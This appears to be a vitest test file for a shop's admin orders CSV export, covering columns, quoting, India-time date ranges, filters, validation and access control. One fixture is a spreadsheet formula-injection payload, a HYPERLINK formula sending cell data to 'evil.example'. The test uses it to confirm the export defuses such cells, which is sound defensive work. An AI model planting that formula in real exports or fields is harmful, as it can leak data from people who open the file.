import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ORDERS_CSV_COLUMNS, ORDERS_EXPORT_MESSAGES, adminOrdersExportQuerySchema } from '@shop/core/admin';
import { createTestShop, type TestShop } from '../test-app.js';
import { signUpAndLogin, type Customer } from '../accounts.js';
import { allowManyOrders, addAddress, orderBody, placeOrder, variantsInStock, type Variant } from '../orders.js';
import { admin, staffUser, type StaffUser } from '../admin.js';
import { OrdersRepository } from '../../src/modules/orders/orders.repository.js';
import { exportOrdersCsv } from '../../src/modules/orders/orders-export.js';

let t: TestShop;
let plain: Customer;
let crafty: Customer;
let v: Variant[];
let staff: StaffUser;
let owner: StaffUser;
let plainAddress: number;
let craftyAddress: number;

/** A customer who names the delivery address so that a spreadsheet would run it. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"Refund")';
const FORMULA_STATE = '@SUM(1+1)';

/** What the orders in this file were placed on: set by hand, so the India days are known. */
const MARCH_31_LAST_SECOND_IST = '2026-03-31T18:29:59.000Z'; // 31 Mar 2026, 23:59:59 in India
const APRIL_1_FIRST_SECOND_IST = '2026-03-31T18:30:00.000Z'; // 1 Apr 2026, 00:00:00 in India
const APRIL_15 = '2026-04-15T06:00:00.000Z';

const ids: Record<'march' | 'april1' | 'usd' | 'cancelled' | 'refunded', number> = { march: 0, april1: 0, usd: 0, cancelled: 0, refunded: 0 };

async function place(
  c: Customer,
  address: number,
  lines: Array<{ v: Variant; quantity: number }>,
  method: 'cash' | 'upi' | 'paypal' = 'cash',
  currency: 'INR' | 'USD' = 'INR',
) {
  const res = await placeOrder(t, c, orderBody(lines, address, method, currency));
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.order_id as number;
}

async function placedAt(orderId: number, at: string) {
  await t.shop.db.updateTable('orders').set({ order_created_date: at }).where('order_id', '=', orderId).execute();
}

beforeAll(async () => {
  t = await createTestShop();
  await allowManyOrders(t);
  plain = await signUpAndLogin(t, 'accounts');
  crafty = await signUpAndLogin(t, 'crafty');
  // An Indian address's state agrees with its pin code (issue 23); a state abroad is free text, so a formula can reach the CSV.
  plainAddress = await addAddress(t, plain, { full_name: 'Priya, "Gems" Nair', state: 'Kerala', pincode: '682028' });
  craftyAddress = await addAddress(t, crafty, { full_name: FORMULA_NAME, state: FORMULA_STATE, country_region: 'Nepal' });
  v = await variantsInStock(t, 3, 30);
  staff = await staffUser(t, 'staff');
  owner = await staffUser(t, 'owner');

  ids.march = await place(plain, plainAddress, [{ v: v[0]!, quantity: 1 }]);
  await placedAt(ids.march, MARCH_31_LAST_SECOND_IST);
  ids.april1 = await place(
    crafty,
    craftyAddress,
    [
      { v: v[0]!, quantity: 2 },
      { v: v[1]!, quantity: 1 },
    ],
    'upi',
  );
  await placedAt(ids.april1, APRIL_1_FIRST_SECOND_IST);
  ids.usd = await place(plain, plainAddress, [{ v: v[2]!, quantity: 1 }], 'paypal', 'USD');
  await placedAt(ids.usd, APRIL_15);
  ids.cancelled = await place(plain, plainAddress, [{ v: v[1]!, quantity: 1 }]);
  expect((await admin(t, 'POST', `orders/${ids.cancelled}/transitions`, staff, { action: 'cancel' })).status).toBe(200);
  await placedAt(ids.cancelled, APRIL_15);
  ids.refunded = await place(plain, plainAddress, [{ v: v[2]!, quantity: 1 }], 'upi');
  expect((await admin(t, 'POST', `orders/${ids.refunded}/transitions`, staff, { action: 'confirm_payment', bank_reference: 'UTR 881' })).status).toBe(200);
  const refund = await admin(t, 'POST', `orders/${ids.refunded}/refunds`, staff, { amount: 100.5, reason: 'One bead chipped', bank_reference: 'NEFT 42' });
  expect(refund.status, JSON.stringify(refund.body)).toBe(200);
  await placedAt(ids.refunded, APRIL_15);
});
afterAll(async () => {
  await t?.close();
});

type Row = Record<(typeof ORDERS_CSV_COLUMNS)[number], string>;

async function exportCsv(query: string, who: { headers: Record<string, string> } | null = staff) {
  return t.request({ method: 'GET', url: `/api/admin/orders/export.csv?${query}`, headers: who?.headers ?? {} });
}

function rowsOf(text: string): Row[] {
  return parse(text, { bom: true, columns: true, skip_empty_lines: true }) as Row[];
}

async function dbOrder(id: number) {
  return t.shop.db.selectFrom('orders').selectAll().where('order_id', '=', id).executeTakeFirstOrThrow();
}

describe('GET /api/admin/orders/export.csv', () => {
  it('streams the orders of the range as CSV: one row per order, oldest first, the columns the accounts need', async () => {
    const res = await exportCsv('from=2026-03-01&to=2026-04-30');
    expect(res.status, String(res.body)).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="orders-2026-03-01-to-2026-04-30.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    const text = String(res.body);
    // A byte-order mark (spreadsheets read UTF-8), then the header, lines ended with CRLF.
    expect(text.startsWith(`\uFEFF${ORDERS_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(ORDERS_CSV_COLUMNS).toEqual([
      'order_number',
      'invoice_number',
      'order_date',
      'order_time',
      'customer_name',
      'customer_email',
      'delivery_state',
      'country',
      'item_count',
      'subtotal_inr',
      'total_inr',
      'currency',
      'total_in_currency',
      'payment_method',
      'payment_status',
      'order_status',
      'refunded_inr',
    ]);
    const rows = rowsOf(text);
    expect(rows.map((r) => Number(r.order_number))).toEqual([ids.march, ids.april1, ids.usd, ids.cancelled, ids.refunded]);

    const march = await dbOrder(ids.march);
    expect(rows[0]).toEqual({
      order_number: String(ids.march),
      invoice_number: march.invoice_number,
      order_date: '2026-03-31',
      order_time: '2026-03-31T23:59:59+05:30',
      customer_name: 'Priya, "Gems" Nair',
      customer_email: plain.email,
      delivery_state: 'Kerala',
      country: 'India',
      item_count: '1',
      subtotal_inr: (march.order_sub_total_paise / 100).toFixed(2),
      total_inr: (march.order_grand_total_paise / 100).toFixed(2),
      currency: 'INR',
      total_in_currency: (march.order_grand_total_paise / 100).toFixed(2),
      payment_method: 'Cash on Delivery',
      payment_status: 'Pay on delivery',
      order_status: 'Placed',
      refunded_inr: '0.00',
    });
    // The comma and quotes of that name are quoted as RFC 4180 says.
    expect(text).toContain(',"Priya, ""Gems"" Nair",');
    expect(rows[0]!.total_inr).toMatch(/^\d+\.\d{2}$/);

    const april1 = rows[1]!;
    expect(april1).toMatchObject({
      order_date: '2026-04-01',
      order_time: '2026-04-01T00:00:00+05:30',
      item_count: '3',
      payment_method: 'UPI',
      payment_status: 'Awaiting payment',
    });

    const usd = await dbOrder(ids.usd);
    expect(rows[2]).toMatchObject({
      currency: 'USD',
      total_inr: (usd.order_grand_total_paise / 100).toFixed(2),
      total_in_currency: (usd.order_display_total_minor / 100).toFixed(2),
      payment_method: 'PayPal',
    });
    expect(Number(rows[2]!.total_in_currency)).toBeLessThan(Number(rows[2]!.total_inr));
    expect(rows[3]).toMatchObject({ order_status: 'Cancelled', payment_status: 'Not charged' });
    expect(rows[4]).toMatchObject({ order_status: 'Placed', payment_status: 'Paid', refunded_inr: '100.50' });
  });

  it('guards cells a spreadsheet would run as formulas: they arrive as text', async () => {
    const res = await exportCsv('from=2026-04-01&to=2026-04-01');
    const text = String(res.body);
    const [row] = rowsOf(text);
    expect(row!.order_number).toBe(String(ids.april1));
    expect(row!.customer_name).toBe(`'${FORMULA_NAME}`);
    expect(row!.delivery_state).toBe(`'${FORMULA_STATE}`);
    // No line has a cell that starts with =, +, -, @, a tab or a CR (quoted or not).
    for (const line of text.split('\r\n')) {
      for (const cell of parse(line || '""', { bom: true })[0] as string[]) expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("takes the range in India's days: an order at 23:59:59 on 31 March is March's, one at 00:00 on 1 April is April's", async () => {
    const march = rowsOf(String((await exportCsv('from=2026-03-31&to=2026-03-31')).body));
    expect(march.map((r) => Number(r.order_number))).toEqual([ids.march]);
    const april = rowsOf(String((await exportCsv('from=2026-04-01&to=2026-04-30')).body));
    expect(april.map((r) => Number(r.order_number))).toEqual([ids.april1, ids.usd, ids.cancelled, ids.refunded]);
    // Nothing placed that day: the header alone.
    const empty = await exportCsv('from=2025-01-01&to=2025-01-01');
    expect(empty.status).toBe(200);
    expect(String(empty.body)).toBe(`\uFEFF${ORDERS_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('filters by order status and by payment status', async () => {
    const cancelled = rowsOf(String((await exportCsv('from=2026-03-01&to=2026-04-30&status=4')).body));
    expect(cancelled.map((r) => Number(r.order_number))).toEqual([ids.cancelled]);
    const placed = rowsOf(String((await exportCsv('from=2026-03-01&to=2026-04-30&status=0')).body));
    expect(placed.map((r) => Number(r.order_number))).toEqual([ids.march, ids.april1, ids.usd, ids.refunded]);
    const paid = rowsOf(String((await exportCsv('from=2026-03-01&to=2026-04-30&status=0&payment_status=paid')).body));
    expect(paid.map((r) => Number(r.order_number))).toEqual([ids.refunded]);
  });

  it('reads the orders a batch at a time, in the same order, whatever the batch size (orders placed in the same millisecond too)', async () => {
    await placedAt(ids.cancelled, APRIL_15); // the same instant as the USD and refunded orders
    const repo = new OrdersRepository(t.shop.db, t.shop.engine);
    const query = adminOrdersExportQuerySchema.parse({ from: '2026-03-01', to: '2026-04-30' });
    let text = '';
    for await (const part of exportOrdersCsv(repo, query, 2)) text += part;
    expect(text).toBe(String((await exportCsv('from=2026-03-01&to=2026-04-30')).body));
    expect(rowsOf(text)).toHaveLength(5);
  });

  it('refuses bad input with a clear 400', async () => {
    for (const [query, message] of [
      ['to=2026-04-30', ORDERS_EXPORT_MESSAGES.fromRequired],
      ['from=2026-04-01', ORDERS_EXPORT_MESSAGES.toRequired],
      ['from=2026-05-01&to=2026-04-30', 'from must be on or before to'],
      ['from=yesterday&to=2026-04-30', 'from must be a date (YYYY-MM-DD)'],
      ['from=2026-02-30&to=2026-04-30', 'from must be a real date'],
      ['from=2026-04-01&to=30/04/2026', 'to must be a date (YYYY-MM-DD)'],
      ['from=2026-04-01&to=2026-04-30&status=9', 'status must be one of 0, 1, 2, 3, 4'],
      ['from=2026-04-01&to=2026-04-30&status=shipped', 'status must be one of 0, 1, 2, 3, 4'],
      ['from=2026-04-01&to=2026-04-30&payment_status=free', 'payment_status must be one of cod_due, awaiting_payment, paid, refunded, void'],
      ['from=2025-04-01&to=2026-04-02', 'The range may span at most 366 days: export a year at a time'],
    ] as const) {
      const res = await exportCsv(query);
      expect(res.status, query).toBe(400);
      expect(res.headers['content-type'], query).toMatch(/^application\/json/);
      expect(res.body.message, query).toBe(message);
    }
    // A leap year's financial year (366 days) is one export.
    expect((await exportCsv('from=2027-04-01&to=2028-03-31')).status).toBe(200);
    expect((await exportCsv('from=2026-04-01&to=2026-04-01&q=%00')).status).toBe(400);
  });

  it('is for the back office, owner and staff alike, as the catalog export is', async () => {
    expect((await exportCsv('from=2026-04-01&to=2026-04-30', null)).status).toBe(401);
    expect((await exportCsv('from=2026-04-01&to=2026-04-30', { headers: plain.headers })).status).toBe(403);
    expect((await exportCsv('from=2026-04-01&to=2026-04-30', owner)).status).toBe(200);
    expect((await exportCsv('from=2026-04-01&to=2026-04-30', staff)).status).toBe(200);
    expect((await admin(t, 'GET', 'products/export.csv', staff)).status).toBe(200);
  });
});
